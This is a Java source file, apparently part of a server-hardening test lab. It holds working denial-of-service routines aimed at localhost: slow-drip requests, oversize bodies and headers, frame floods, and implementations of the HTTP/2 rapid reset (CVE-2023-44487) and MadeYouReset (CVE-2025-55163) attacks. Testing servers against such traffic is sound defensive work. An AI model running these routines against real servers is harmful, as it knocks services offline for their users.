package dev.edgewise.lab.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.util.Collections;
import java.util.HashMap;
import java.util.Map;

/** What offenders send, a method for each. */
final class Scripts {
  private static final int FIRST_STREAM = 1;
  private static final int LIMIT = 4 << 20;
  private static final int MANY = 10_000;

  /** A burst of frames, and the pause after it: 10,000 frames a second. */
  private static final int BURST = 100;

  private static final int BURST_MILLIS = 10;

  /** A text as its first field: what a greeting takes, and others pass over. */
  private static final byte[] REQUEST = {10, 1, 'x'};

  /** The name of a header that stands in no table. */
  private static final String HEADER = "x-padding";

  private Scripts() {}

  // ---------------------------------------------------------------- slow

  static void slowPreface(Peer peer, Door door) throws IOException, InterruptedException {
    peer.dribble(Frames.hello());
  }

  static void slowHeaders(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello());
    peer.dribble(Frames.call(FIRST_STREAM, door.path()));
  }

  static void slowMessage(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello(), Frames.call(FIRST_STREAM, door.path()));
    byte[] message = Frames.message(1_000, new byte[1_000]);
    for (int i = 0; i < message.length && peer.pause(1_000); i++) {
      peer.send(Frames.frame(Frames.DATA, 0, FIRST_STREAM, new byte[] {message[i]}));
    }
  }

  static void slowRequest(Peer peer, Door door) throws IOException, InterruptedException {
    peer.dribble(request("GET", door, "Accept: " + "*/*,".repeat(50)));
  }

  static void slowBody(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(request("POST", door, "Content-Type: application/json\r\nContent-Length: 1000"));
    peer.dribble(new byte[1_000]);
  }

  // ---------------------------------------------------------------- half-open

  static void nothing(Peer peer, Door door) {}

  static void hello(Peer peer, Door door) throws IOException {
    peer.send(Frames.hello());
  }

  /** Makes calls whose answers cannot be sent. */
  static void noWindow(Peer peer, Door door) throws IOException {
    peer.send(Frames.helloWithoutWindow());
    for (int stream = FIRST_STREAM; stream < 10; stream += 2) {
      peer.send(Frames.call(stream, door.path()), Frames.lastMessage(stream, REQUEST));
    }
  }

  static void askOnce(Peer peer, Door door) throws IOException {
    peer.send(request("GET", door, "Accept: */*"));
  }

  // ---------------------------------------------------------------- oversize

  static void largeMessage(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello(), Frames.call(FIRST_STREAM, door.path()));
    byte[] part = new byte[Frames.LARGEST];
    System.arraycopy(Frames.message(LIMIT + 1, new byte[0]), 0, part, 0, 5);
    int sent = 0;
    // At the pace at which the server makes room for an honest client.
    for (; sent <= LIMIT && peer.pause(2); sent += part.length) {
      peer.send(Frames.frame(Frames.DATA, 0, FIRST_STREAM, part));
      part[0] = 0;
    }
  }

  static void largeClaim(Peer peer, Door door) throws IOException {
    peer.send(Frames.hello(), Frames.call(FIRST_STREAM, door.path()));
    peer.send(
        Frames.frame(Frames.DATA, 0, FIRST_STREAM, Frames.message(0xffff_ffffL, new byte[100])));
  }

  /** Without a thought for the server's window. */
  static void endlessData(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello(), Frames.call(FIRST_STREAM, door.path()));
    byte[] part = Frames.frame(Frames.DATA, 0, FIRST_STREAM, new byte[Frames.LARGEST]);
    while (peer.pause(1)) {
      peer.send(part);
    }
  }

  /** A message is small, and there is always another. */
  static void endlessMessages(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello(), Frames.call(FIRST_STREAM, door.path()));
    byte[] message = Frames.frame(Frames.DATA, 0, FIRST_STREAM, Frames.message(0, new byte[0]));
    while (peer.pause(10)) {
      peer.send(message);
    }
  }

  static void largeBody(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(
        request("POST", door, "Content-Type: application/json\r\nContent-Length: " + (LIMIT + 1)));
    byte[] part = "[".repeat(1 << 16).getBytes(US_ASCII);
    for (int sent = 0; sent <= LIMIT && peer.pause(5); sent += part.length) {
      peer.send(part);
    }
  }

  static void endlessChunks(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(
        request("POST", door, "Content-Type: application/json\r\nTransfer-Encoding: chunked"));
    byte[] part = ("10000\r\n" + "[".repeat(1 << 16) + "\r\n").getBytes(US_ASCII);
    while (peer.pause(5)) {
      peer.send(part);
    }
  }

  // ---------------------------------------------------------------- headers

  static void headerOf8k(Peer peer, Door door) throws IOException {
    callWith(peer, door, Map.of(HEADER, "x".repeat((8 << 10) + 1)));
  }

  static void headerOf1m(Peer peer, Door door) throws IOException {
    callWith(peer, door, Map.of(HEADER, "x".repeat(1 << 20)));
  }

  static void headers10k(Peer peer, Door door) throws IOException {
    Map<String, String> many = new HashMap<>();
    for (int i = 0; i < MANY; i++) {
      many.put("x-" + i, "1");
    }
    callWith(peer, door, many);
  }

  private static void callWith(Peer peer, Door door, Map<String, String> headers)
      throws IOException {
    peer.send(Frames.hello());
    byte[] block = Frames.block(door.path(), headers);
    int type = Frames.HEADERS;
    for (int at = 0; at < block.length; at += Frames.LARGEST) {
      int end = Math.min(block.length, at + Frames.LARGEST);
      byte[] part = java.util.Arrays.copyOfRange(block, at, end);
      peer.send(
          Frames.frame(type, end == block.length ? Frames.END_HEADERS : 0, FIRST_STREAM, part));
      type = Frames.CONTINUATION;
    }
  }

  static void requestHeaderOf8k(Peer peer, Door door) throws IOException {
    peer.send(request("GET", door, HEADER + ": " + "x".repeat((16 << 10) + 1)));
  }

  static void requestHeaderOf1m(Peer peer, Door door) throws IOException {
    peer.send(request("GET", door, HEADER + ": " + "x".repeat(1 << 20)));
  }

  static void requestHeaders10k(Peer peer, Door door) throws IOException {
    peer.send(request("GET", door, String.join("\r\n", Collections.nCopies(MANY, HEADER + ": 1"))));
  }

  static void requestLineOf1m(Peer peer, Door door) throws IOException {
    peer.send(("GET /" + "x".repeat(1 << 20)).getBytes(US_ASCII));
  }

  // ---------------------------------------------------------------- floods

  /**
   * Calls that are taken back at once.
   *
   * @see <a href="https://www.cve.org/CVERecord?id=CVE-2023-44487">rapid reset</a>
   */
  static void resetAtOnce(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello());
    for (int stream = FIRST_STREAM; peer.pause(BURST_MILLIS); ) {
      byte[][] burst = new byte[2 * BURST][];
      for (int i = 0; i < burst.length; i += 2, stream += 2) {
        burst[i] = Frames.call(stream, door.path());
        burst[i + 1] = Frames.reset(stream);
      }
      peer.send(burst);
    }
  }

  /** The same 2 ms later, when the body has begun. */
  static void resetSoon(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello());
    int burst = 10;
    for (int stream = FIRST_STREAM; peer.pause(BURST_MILLIS / 5); stream += 2 * burst) {
      for (int i = 0; i < burst; i++) {
        peer.send(
            Frames.call(stream + 2 * i, door.path()), Frames.lastMessage(stream + 2 * i, REQUEST));
      }
      peer.pause(2);
      for (int i = 0; i < burst; i++) {
        peer.send(Frames.reset(stream + 2 * i));
      }
    }
  }

  /**
   * Calls that the server itself has to reset.
   *
   * @see <a href="https://www.cve.org/CVERecord?id=CVE-2025-55163">MadeYouReset</a>
   */
  static void resetByServer(Peer peer, Door door) throws IOException, InterruptedException {
    peer.send(Frames.hello());
    for (int stream = FIRST_STREAM; peer.pause(BURST_MILLIS); ) {
      byte[][] burst = new byte[2 * BURST][];
      for (int i = 0; i < burst.length; i += 2, stream += 2) {
        burst[i] = Frames.call(stream, door.path());
        burst[i + 1] = Frames.windowUpdateOfNothing(stream);
      }
      peer.send(burst);
    }
  }

  static void pings(Peer peer, Door door) throws IOException, InterruptedException {
    flood(peer, Frames.hello(), Frames.ping());
  }

  static void settings(Peer peer, Door door) throws IOException, InterruptedException {
    flood(peer, Frames.hello(), Frames.frame(Frames.SETTINGS, 0, 0));
  }

  static void emptyData(Peer peer, Door door) throws IOException, InterruptedException {
    flood(
        peer,
        Frames.join(Frames.hello(), Frames.call(FIRST_STREAM, door.path())),
        Frames.frame(Frames.DATA, 0, FIRST_STREAM));
  }

  /** Headers of one call that never end, and are nothing. */
  static void continuations(Peer peer, Door door) throws IOException, InterruptedException {
    flood(
        peer,
        Frames.join(Frames.hello(), Frames.frame(Frames.HEADERS, 0, FIRST_STREAM)),
        Frames.frame(Frames.CONTINUATION, 0, FIRST_STREAM));
  }

  private static void flood(Peer peer, byte[] first, byte[] frame)
      throws IOException, InterruptedException {
    peer.send(first);
    byte[][] burst = Collections.nCopies(BURST, frame).toArray(new byte[0][]);
    while (peer.pause(BURST_MILLIS)) {
      peer.send(burst);
    }
  }

  /** Asks again and again, and reads no answer. */
  static void unreadAnswers(Peer peer, Door door) throws IOException, InterruptedException {
    byte[][] burst =
        Collections.nCopies(BURST, request("GET", door, "Accept: */*")).toArray(new byte[0][]);
    while (peer.pause(BURST_MILLIS)) {
      peer.send(burst);
    }
  }

  private static byte[] request(String method, Door door, String headers) {
    return (method + " " + door.path() + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\n\r\n")
        .getBytes(US_ASCII);
  }
}
